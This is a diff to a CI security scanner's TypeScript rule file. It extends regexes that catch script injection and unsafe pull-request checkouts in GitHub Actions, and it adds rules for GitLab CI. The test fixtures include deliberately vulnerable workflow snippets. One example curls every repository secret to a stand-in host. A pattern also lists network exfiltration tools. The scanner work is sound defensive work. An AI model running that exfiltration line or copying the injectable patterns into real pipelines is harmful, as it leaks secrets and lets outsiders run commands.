@@ -3,25 +3,67 @@ import { ACTIONS, DOCUMENT_TAG, WORKFLOWS } from './paths.ts';
 
 const raw = String.raw;
 
+/**
+ * A property of a context in any spelling that GitHub reads: `github.event`, `github['event']`,
+ * with blanks, in any case.
+ */
+function property(context: string, ...names: string[]): string {
+  const members = names.map((name) => raw`\s*(?:\.\s*${name}\b|\[\s*["']${name}["']\s*\])`);
+  return `(?i:${context}${members.join('')})`;
+}
+
 /** Texts that the author of an issue or a pull request chooses. */
-const CHOSEN = raw`github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body)|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages\.\*\.page_name|(?:head_commit|commits\[?[^\]\s}]*\]?)\.(?:message|author\.(?:name|email)))`;
-const BRANCH = raw`github\.(?:head_ref|event\.(?:pull_request\.head\.(?:ref|label|repo\.default_branch)|workflow_run\.head_branch))`;
+const CHOSEN = `(?:${[
+  property('github', 'event', '(?:issue|pull_request|discussion)', '(?:title|body)'),
+  property('github', 'event', '(?:comment|review|review_comment)', 'body'),
+  raw`(?i:github\s*\.\s*event\s*\.\s*pages\b[^}\n]{0,20}\bpage_name)`,
+  property('github', 'event', 'head_commit', '(?:message|author)'),
+  raw`(?i:github\s*\.\s*event\s*\.\s*commits\b[^}\n]{0,20}\.\s*(?:message|author))`,
+  // The whole event, with all of these in it.
+  raw`(?i:toJSON\(\s*github(?:\s*(?:\.\s*event\b|\[\s*["']event["']\s*\])(?:\s*\.\s*(?:issue|pull_request|comment|review|discussion|head_commit|commits)\b)?)?\s*\))`,
+].join('|')})`;
+const HEAD_REF = property('github', 'head_ref');
+const BRANCH = `(?:${[
+  HEAD_REF,
+  property('github', 'event', 'pull_request', 'head', '(?:ref|label)'),
+  property('github', 'event', 'pull_request', 'head', 'repo', 'default_branch'),
+  property('github', 'event', 'workflow_run', 'head_branch'),
+].join('|')})`;
 
 /** Triggers that run with secrets for what others propose. */
 const PRIVILEGED = raw`\b(?:pull_request_target|workflow_run)\b`;
+/** An expression that names the commit, branch or repository of a pull request. */
+const PROPOSED_HEAD = `(?:${[
+  HEAD_REF,
+  property('github', 'event', 'pull_request', 'merge_commit_sha'),
+  property('github', 'event', 'pull_request', 'head', '(?:sha|ref|label|repo)'),
+  property('github', 'event', 'workflow_run', 'head_(?:sha|branch|repository|commit)'),
+].join('|')})`;
 /** How the code of a pull request gets onto the runner. */
-const PROPOSED = raw`(?:\bref:\s*["']?(?:\$\{\{\s*github\.(?:event\.(?:pull_request\.(?:head|merge_commit_sha)|workflow_run\.head)|head_ref)|(?:refs/)?pull/\$\{\{)|\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull)\b[^\n#]*\bpull/)`;
+const PROPOSED = `(?:${[
+  raw`["']?\b(?:ref|repository)["']?:\s*["']?\$\{\{\s*${PROPOSED_HEAD}`,
+  raw`\bref:\s*["']?(?:refs/)?pull/\$\{\{`,
+  // By way of a variable: NAME: the head, then git or the action takes it.
+  raw`\b\w+:\s*["']?\$\{\{\s*${PROPOSED_HEAD}[^\n]*\n(?s:.*?)(?:\bgit\s+(?:checkout|fetch|pull|switch|reset|merge|clone|worktree)\b[^\n#]*\$\{?\w|\bref:\s*["']?\$\{\{\s*env\s*\.)`,
+  raw`\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull)\b[^\n#]*\bpull/`,
+].join('|')})`;
 
 /** Lines of a block that a `run: |` opened: none of them begins like a YAML key or list entry. */
 const BLOCK = raw`(?:\n[ \t]+(?:#[^\n]*|(?:[^\s:#-]|-[^\s:])[^\s:]*(?:[ \t][^\n]*)?)|\n[ \t]*)*?`;
-const LAST = raw`\n[ \t]+(?:(?:[^\s:#-]|-[^\s:])[^\s:]*[ \t][^\n]*?|["'(]?)`;
+const LAST = raw`\n[ \t]+(?:(?:[^\s:#-]|-[^\s:])[^\s:]*(?:[ \t][^\n]*?)?|["'(]?)`;
 
-/** `run:` with the expression on its line or in its block. */
+/**
+ * `run:`, or `script:` of actions/github-script, with the expression on its line or in its block;
+ * in the flow style of YAML, too.
+ */
 function inRun(expression: string): string {
-  const open = raw`(?m)^[ \t]*(?:-[ \t]+)?run:[ \t]*`;
-  const inserted = raw`\$\{\{[^}\n]{0,60}\b${expression}\b`;
+  const open = raw`(?m)^[ \t]*(?:-[ \t]+)?(?:\{[^\n]*?[{,][ \t]*|\{[ \t]*)?["']?(?:run|script)["']?:[ \t]*`;
+  const inserted = raw`\$\{\{(?:[^}'\n]|'[^'\n]*')*?(?:\b|[^\w}\n])${expression}`;
   return raw`${open}(?:[^|>\s#][^\n]*?${inserted}|[|>][+-]?[ \t]*${BLOCK}${LAST}${inserted})`;
 }
+
+/** Variables of GitLab CI whose text the author of a change chooses. */
+const GITLAB_TEXT = raw`(?:CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS|MILESTONE)|CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|AUTHOR)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)\b`;
 
 /** Workflows of GitHub Actions, Gitea and Forgejo. */
 export const workflowPatterns = [
@@ -66,6 +108,9 @@ jobs:
 on: [push, pull_request_target]`,
         'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: gh pr checkout "$N" && make',
         'on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git fetch origin pull/$N/head',
+        `on: pull_request_target\njobs:\n  a:\n    env:\n      HEAD: \${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git checkout $HEAD`,
+        `on: pull_request_target\njobs:\n  a:\n    env:\n      HEAD: \${{ github.head_ref }}\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ env.HEAD }}`,
+        `on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github['event']['pull_request'].head.SHA }}`,
       ],
       noMatch: [
         'on: pull_request_target\njobs:\n  label:\n    steps:\n      - uses: actions/labeler@v5',
@@ -79,7 +124,7 @@ on: [push, pull_request_target]`,
     regex: inRun(CHOSEN),
     target: 'hunk',
     path: ACTIONS,
-    keywords: ['github.event.'],
+    keywords: ['github'],
     tags: [DOCUMENT_TAG],
     severity: 'high',
     message: 'Anybody who writes this title or text can run commands in the workflow.',
@@ -92,6 +137,12 @@ on: [push, pull_request_target]`,
       match: [
         `      - run: echo "\${{ github.event.issue.title }}"`,
         `        run: |\n          set -e\n          echo "new: x"\n          notify "\${{ github.event.pull_request.body }}"`,
+        `      - run: echo "\${{ github['event']['issue']["title"] }}"`,
+        `      - run: echo "\${{ GitHub.Event.Comment.Body }}"`,
+        `      - run: echo '\${{ toJSON(github.event) }}'`,
+        `      - run: echo "\${{ format('{0}', github.event.review.body) }}"`,
+        `      - { name: a, run: "echo \${{ github.event.issue.title }}" }`,
+        `      - uses: actions/github-script@v7\n        with:\n          script: console.log("\${{ github.event.issue.body }}")`,
       ],
       noMatch: [
         `      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: echo "$TITLE"`,
@@ -106,7 +157,7 @@ on: [push, pull_request_target]`,
     regex: inRun(BRANCH),
     target: 'hunk',
     path: ACTIONS,
-    keywords: ['github.head_ref', 'head.ref', 'head.label', 'head_branch'],
+    keywords: ['head_ref', 'head', 'head_branch'],
     tags: [DOCUMENT_TAG],
     severity: 'medium',
     message: 'A branch may be named so that its name is a command; this runs it.',
@@ -164,6 +215,82 @@ on: [push, pull_request_target]`,
       noMatch: [
         '    uses: ./.github/workflows/release.yml\n    secrets: inherit',
         '    uses: acme/ci/.github/workflows/a.yml@v1\n    secrets:\n      TOKEN: x',
+      ],
+    },
+  },
+  {
+    id: 'risk-workflow-secrets-sent',
+    description: 'All secrets of a repository are put into one value, where something sends data',
+    regex: raw`(?i)\$\{\{[^}\n]{0,40}toJSON\(\s*secrets\s*\)`,
+    requires: raw`\b(?:curl|wget|nc|ncat|netcat|socat|iwr|irm|base64|openssl|xxd)\b|\b(?:Invoke-(?:WebRequest|RestMethod)|fetch|axios|urlopen|requests\.\w+)\b|/dev/tcp/`,
+    path: ACTIONS,
+    keywords: ['tojson'],
+    severity: 'high',
+    message: 'Every secret of the repository can leave with one request.',
+    fix: 'Name the secrets that the step needs.',
+    cwe: 'CWE-201',
+    source: 'https://docs.github.com/en/actions/reference/security/secure-use',
+    examples: {
+      path: '.github/workflows/ci.yml',
+      match: [
+        `        run: curl -d '\${{ toJSON(secrets) }}' https://collect.acme.io`,
+        `        env:\n          ALL: \${{ toJson(secrets) }}\n        run: echo "$ALL" | base64 -w0`,
+      ],
+      noMatch: [
+        `        run: curl -H "Authorization: Bearer \${{ secrets.TOKEN }}" https://api.acme.io`,
+        `        run: echo '\${{ toJSON(matrix) }}' | base64`,
+      ],
+    },
+  },
+  {
+    id: 'risk-workflow-variable-injection',
+    description: 'A variable of a workflow is pasted into a script that others choose texts for',
+    regex: inRun(property('env', raw`\w+`)),
+    requires: raw`^\s*["']?\w+["']?:\s*["']?\$\{\{[^}\n]{0,60}(?:\b|[^\w}\n])(?:${CHOSEN}|${BRANCH})`,
+    target: 'hunk',
+    path: ACTIONS,
+    keywords: ['env'],
+    severity: 'medium',
+    message: 'Where this variable holds the title, text or branch, its author can run commands.',
+    fix: 'Use "$NAME" in the script: a shell variable is never read as code.',
+    cwe: 'CWE-78',
+    source:
+      'https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks',
+    examples: {
+      path: '.github/workflows/triage.yml',
+      match: [
+        `      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: echo "\${{ env.TITLE }}"`,
+        `    env:\n      B: \${{ github.head_ref }}\n    steps:\n      - run: git checkout \${{ env['B'] }}`,
+      ],
+      noMatch: [
+        `      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: echo "$TITLE"`,
+        `      - env:\n          NODE: 22\n        run: echo "\${{ env.NODE }}"`,
+      ],
+    },
+  },
+  {
+    id: 'risk-gitlab-script-injection',
+    description: 'A text that the author of a change chooses is run as shell code',
+    regex: raw`\beval\b[^\n]*\$\{?${GITLAB_TEXT}|\b(?:(?:ba|da|z|k)?sh|python[\d.]*|node|perl|ruby)\s+-[ce]\s+\\?"[^\n]*\$\{?${GITLAB_TEXT}|\bssh\b[^\n]*\\?"[^\n]*\$\{?${GITLAB_TEXT}`,
+    path: raw`(?i)(?:^|/)[^/]*gitlab-ci[^/]*\.ya?ml$|^\.gitlab/.*\.ya?ml$`,
+    keywords: ['ci_merge_request_', 'ci_commit_', 'ci_external_pull_request_'],
+    tags: [DOCUMENT_TAG],
+    severity: 'high',
+    message: 'Anybody who writes a title, a message or the name of a branch can run commands.',
+    fix: 'Hand it over as an argument: sh -c \'notify "$1"\' -- "$CI_COMMIT_TITLE".',
+    cwe: 'CWE-78',
+    source: 'https://docs.gitlab.com/ci/variables/#cicd-variable-security',
+    examples: {
+      path: '.gitlab-ci.yml',
+      match: [
+        '    - eval "notify $CI_MERGE_REQUEST_TITLE"',
+        `    - bash -c "echo \${CI_COMMIT_MESSAGE}"`,
+        `    - 'ssh deploy@host "deploy.sh $CI_MERGE_REQUEST_SOURCE_BRANCH_NAME"'`,
+      ],
+      noMatch: [
+        '    - notify "$CI_MERGE_REQUEST_TITLE"',
+        `    - sh -c 'notify "$1"' -- "$CI_COMMIT_TITLE"`,
+        '    - bash -c "echo $CI_COMMIT_SHA"',
       ],
     },
   },
